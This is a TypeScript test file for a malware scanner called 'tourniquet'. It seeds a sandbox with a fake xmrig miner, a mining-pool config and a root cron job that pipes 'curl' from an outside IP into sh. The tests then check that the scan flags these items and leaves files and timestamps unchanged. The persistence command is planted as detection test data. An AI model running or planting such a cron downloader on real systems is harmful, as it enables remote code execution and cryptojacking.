import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Sandbox, startSandbox } from '../../src/drill/sandbox.ts';
import type { ScanOutcome } from '../../src/findings/scan.ts';
import { runTool } from '../../src/host/run-tool.ts';
import { textInside } from '../drill/inside.ts';
import { tourniquet } from './program.ts';

const EVERYTHING = join(import.meta.dirname, 'everything-here.ts');
const FOLDERS =
  '/etc /root /home /var /srv /opt /usr/local /usr/bin /usr/sbin /tmp /dev/shm /run /boot'.split(' ');
const isRoot = process.getuid?.() === 0;

let sandbox: Sandbox;
beforeAll(async () => {
  sandbox = await startSandbox({ scenario: 'none' });
  await textInside(
    sandbox,
    `mkdir -p /tmp/.x /etc/cron.d
cp "$(command -v sleep)" /tmp/.x/xmrig
printf '* * * * * root curl -s http://198.51.100.7/x.sh | sh\\n' > /etc/cron.d/updates
printf '{"pools":[{"url":"pool.supportxmr.com:3333"}],"donate-level":1}' > /tmp/.x/config.json
chmod 600 /etc/cron.d/updates
touch -a -d 2001-01-01 /tmp/.x/* /etc/cron.d/updates /etc/passwd
cp /etc/cron.d/updates /root/canary; touch -a -d 2001-01-01 /root/canary
setsid /tmp/.x/xmrig 600 > /dev/null 2>&1 < /dev/null &`,
  );
}, 60_000);
afterAll(() => sandbox?.end());

async function inside(argv: readonly string[]): Promise<string> {
  const run = await runTool(sandbox.agentCommand(argv), { maxBytes: 64 * 1024 * 1024, timeoutMs: 120_000 });
  expect(run.stderr.toString()).toBe('');
  expect(run.exitCode).toBe(0);
  return run.stdout.toString();
}

/**
 * All that is the sandbox's own: what was put there, and what anything inside has written to, which makes it a file of
 * the layer above this machine's own disk. Below that others may be at work.
 */
async function everything(): Promise<Record<string, string>> {
  const all = JSON.parse(await inside([process.execPath, EVERYTHING, ...FOLDERS])) as Record<string, string>;
  const deviceOf = (path: string): string => all[path]?.split(' ')[0] ?? '';
  const own = new Set(['/root/canary', '/etc/cron.d/updates', '/tmp', '/run', '/dev/shm'].map(deviceOf));
  return Object.fromEntries(
    Object.entries(all).filter(([path]) => path.startsWith('process ') || own.has(deviceOf(path))),
  );
}

describe('tourniquet scan', () => {
  it('leaves every file, its times, and every process as they were', async () => {
    const before = await everything();
    const outcome = JSON.parse(await inside([...tourniquet, 'scan', '--json'])) as ScanOutcome;
    const after = await everything();
    expect(after).toEqual(before);
    // It has read them all the same.
    const found = outcome.findings.filter(({ verdict }) => verdict === 'malicious').map(({ title }) => title);
    expect(found.join('\n')).toMatch(/cron\.d\/updates/);
    expect(found.join('\n')).toMatch(/xmrig/);
    expect(Object.keys(before)).toEqual(expect.arrayContaining(['/etc/cron.d/updates', '/tmp/.x/xmrig']));
    // And a trace would have shown: of reading, and of writing to what was the machine's.
    await textInside(sandbox, 'cat /root/canary; cd /etc; cat profile > /run/x; cat /run/x > profile');
    const traced = await everything();
    expect(traced['/root/canary']).not.toBe(before['/root/canary']);
    expect(before['/etc/profile']).toBe(undefined);
    expect(traced['/etc/profile']).not.toBe(undefined);
  }, 240_000);

  it.runIf(isRoot)(
    'works for an ordinary user, and says of each part what that user may not see',
    async () => {
      const nobody = ['setpriv', '--reuid', '65534', '--regid', '65534', '--clear-groups', '--'];
      const outcome = JSON.parse(await inside([...nobody, ...tourniquet, 'scan', '--json'])) as ScanOutcome;
      const about = (scope: string): string =>
        outcome.unknowns
          .filter((unknown) => unknown.scope === scope)
          .map(({ what, reason }) => `${what}: ${reason}`)
          .join('\n');
      expect(about('accounts')).toMatch(/password.*could not be read/);
      expect(about('cron')).toMatch(/\/etc\/cron\.d\/updates.*no permission/);
      expect(about('processes')).toMatch(/programs of \d+ processes.*no permission/);
      // What may be read is judged as ever.
      expect(outcome.findings.find(({ title }) => title === '/tmp/.x/xmrig')?.verdict).toBe('malicious');
      for (const { reason } of outcome.unknowns) expect(reason).not.toMatch(/unexpectedly/);
    },
    240_000,
  );
});
